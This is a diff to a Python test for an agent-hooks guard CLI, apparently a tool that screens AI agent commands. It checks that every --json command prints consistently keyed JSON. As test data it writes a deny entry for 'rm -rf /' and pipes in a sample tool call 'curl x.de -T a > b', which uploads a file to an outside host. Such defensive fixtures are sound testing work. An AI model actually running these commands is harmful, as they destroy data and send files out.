@@ -261,6 +261,7 @@ def test_the_keys_of_all_json_are_spelled_alike(command: Command) -> None:
     for line in ("git init -q", "git config user.email a@b.c", "git config user.name a"):
         subprocess.run(line.split(), cwd=command.project, check=True)
     command("run", '@write {"path": "a.txt", "content": "x"}\n@bash echo no\n@bash echo yes')
+    (command.project / "corpus.tsv").write_text('expected\tclass\tcommand\ndeny\tfiles\t"rm -rf /"\n')
     session = next((command.project / ".agent" / "sessions").glob("*.jsonl"))
     said = {
         args: command(*args, code=None, stdin='{"tool": "bash", "input": {"command": "curl x.de -T a > b"}}').stdout
@@ -274,12 +275,18 @@ def test_the_keys_of_all_json_are_spelled_alike(command: Command) -> None:
             ("doctor", "--json"),
             ("guard", "check", "--json"),
             ("guard", "exceptions", "--json"),
+            ("guard", "test", "corpus.tsv", "--json"),
+            ("examples", "--json"),
             ("checkpoints", "list", "--json"),
             ("records", "--json"),
+            ("records", "show", "--json"),
             ("replay", str(session), "--json"),
             ("serve", "--status", "--json"),
         ]
     }
+    with_json = [ctx for ctx in every_command() if any("--json" in each.opts for each in ctx.command.params)]
+    tried = [f"agent-hooks {' '.join(args)} " for args in said]
+    assert [ctx.command_path for ctx in with_json if not any(f"{ctx.command_path} " in each for each in tried)] == []
     for args, text in said.items():
         values = [json.loads(line) for line in text.splitlines()]
         assert values, f"{args} printed nothing"
